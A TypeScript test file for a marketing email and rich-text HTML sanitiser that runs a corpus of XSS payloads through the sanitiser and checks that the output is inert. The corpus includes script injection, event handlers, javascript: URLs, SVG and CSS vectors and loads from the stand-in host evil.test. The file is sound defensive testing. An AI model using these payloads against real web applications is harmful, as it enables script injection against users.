import { EMAIL_MERGE_FIELDS } from 'shared-kernel/domain';
import { MERGE_FIELD_KEYS, unknownMergeFields } from 'shared-kernel/contracts';
import { blocksToMjml, renderBlocks } from './marketing.mjml';
import { applyMergeFields, filterEmailStyle, filterStylesheet, sanitizeEmailHtml, sanitizeRichHtml } from './marketing.sanitize';

/** XSS payloads: none may leave anything that runs, loads a script or navigates to a script. */
const CORPUS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.test/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://a.test/i.png" onload="alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<svg onload=alert(1)><circle r=1 /></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<p style="background-image: url(javascript:alert(1))">x</p>',
  '<p style="width: expression(alert(1))">x</p>',
  '<p style="color: red; behavior: url(x.htc)">x</p>',
  '<div style="-moz-binding: url(x.xml#xss)">x</div>',
  '<style>body { background: url("javascript:alert(1)") }</style>',
  '<style>@import "https://evil.test/x.css";</style>',
  '<iframe src="https://evil.test"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="x.swf"></object><embed src="x.swf">',
  '<form action="https://evil.test"><input name=a><button>ok</button></form>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '<link rel=stylesheet href="https://evil.test/x.css">',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<a href="#" onclick="alert(1)">x</a>',
  '<div data-x="1" id="y" formaction="javascript:alert(1)">x</div>',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<!--<img src=x onerror=alert(1)>-->',
  '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
  '<p>{{firstname}}</p><a href="{{email}}">m</a>',
];

/** Nothing that executes: no script element, no handler, no javascript:/vbscript:/data: URL, no url()/expression in styles. */
function assertInert(out: string) {
  expect(out).not.toMatch(/<script/i);
  expect(out).not.toMatch(/\son[a-z]+\s*=/i);
  expect(out).not.toMatch(/javascript:|vbscript:|data:/i);
  expect(out).not.toMatch(/expression\s*\(|url\s*\(|behavior|-moz-binding|@import/i);
  expect(out).not.toMatch(/<(iframe|object|embed|form|input|button|meta http|base|link|svg|math|template|noscript)\b/i);
  expect(out).not.toMatch(/href="\{\{/);
}

describe('marketing sanitiser (§5 / §9)', () => {
  it.each(CORPUS)('rich text: %s leaves nothing that runs', (payload) => {
    assertInert(sanitizeRichHtml(payload));
  });
  it.each(CORPUS)('email: %s leaves nothing that runs', (payload) => {
    assertInert(sanitizeEmailHtml(`<html><head><style>p { color: red }</style></head><body>${payload}</body></html>`));
  });

  it('rich text keeps the §5 styles and links, nothing more', () => {
    expect(
      sanitizeRichHtml(
        '<p style="color: #ff0000; text-align: center; font-size: 14px; line-height: 150%; margin: 0 10px; width: 100px; position: fixed">a <a href="https://a.fr" target="_blank">b</a> <a href="mailto:a@b.fr">c</a> <a href="tel:+33612345678">d</a> <a href="ftp://a.fr">e</a></p>',
      ),
    ).toBe(
      '<p style="color: #ff0000; text-align: center; font-size: 14px; line-height: 150%; margin: 0 10px">a <a href="https://a.fr" target="_blank" rel="noopener noreferrer">b</a> <a href="mailto:a@b.fr">c</a> <a href="tel:+33612345678">d</a> <a href="ftp://a.fr">e</a></p>',
    );
    expect(sanitizeRichHtml('<p style="font-size: 12pt">a</p>')).toBe('<p>a</p>');
  });

  it('email layout: table attributes and layout styles stay, with safe values only', () => {
    expect(
      filterEmailStyle('width: 600px; max-width: 100%; display: inline-block; border-top: 4px solid #7b1e3a; position: absolute'),
    ).toBe('width: 600px; max-width: 100%; display: inline-block; border-top: 4px solid #7b1e3a');
    expect(filterEmailStyle('width: calc(100% - 1px); font-family: a\\62 c; border: 1px solid url(x)')).toBe('');
    expect(filterStylesheet('@media only screen and (min-width:480px) { .c { width: 50% !important; position: fixed } }')).toBe(
      '@media only screen and (min-width:480px) { .c { width: 50% } }',
    );
    expect(filterStylesheet('p { color: red } /* x */ @font-face { src: x }')).toBe('');
    const out = sanitizeEmailHtml(
      '<table bgcolor="#ffffff" cellpadding="0" role="presentation" onclick="x"><tr><td valign="top">a</td></tr></table>',
    );
    expect(out).toContain('<table bgcolor="#ffffff" cellpadding="0" role="presentation">');
    expect(out).toMatch(/^<!doctype html><html><head><meta charset="utf-8">/);
  });

  it('a standard template renders through MJML and comes out inert, its merge fields kept', async () => {
    const blocks = [
      { type: 'heading' as const, text: 'Bonjour {{firstname}} <script>alert(1)</script>', level: 1 },
      { type: 'text' as const, html: '<p onclick="x()">Nouveau <b>millésime</b></p><img src=x onerror=alert(1)>' },
      { type: 'columns' as const, left: '<svg onload=alert(1)>', right: '<a href="javascript:alert(1)">x</a>' },
      { type: 'button' as const, label: 'Commander', href: 'https://domaine.test/"><script>alert(1)</script>' },
      { type: 'divider' as const },
    ];
    const ctx = { shopName: 'Domaine <b>', color: '#7b1e3a', logoUrl: null, products: new Map() };
    expect(blocksToMjml(blocks, ctx)).toContain('Bonjour {{firstname}} &lt;script&gt;');
    const out = sanitizeEmailHtml(await renderBlocks(blocks, ctx));
    assertInert(out);
    expect(out).toContain('Bonjour {{firstname}}');
    expect(out).toContain('Nouveau <b>millésime</b>');
    expect(out).toContain('@media only screen and (min-width:480px)');
  });

  it('merge fields: values escaped, unknown ones found, the §3 reference list', () => {
    expect(
      applyMergeFields('<p>{{firstname}} {{ lastname }} {{nope}}</p>', {
        firstname: '<img src=x onerror=alert(1)>',
        lastname: 'Dupont & fils',
      }),
    ).toBe('<p>&lt;img src=x onerror=alert(1)&gt; Dupont &amp; fils </p>');
    expect(unknownMergeFields('{{firstname}} {{prenom}} {{ prenom }} {{amount}} {{x y}}')).toEqual(['prenom', 'x y']);
    expect(MERGE_FIELD_KEYS).toEqual(EMAIL_MERGE_FIELDS.map((f) => f.value.slice(2, -2)));
  });
});
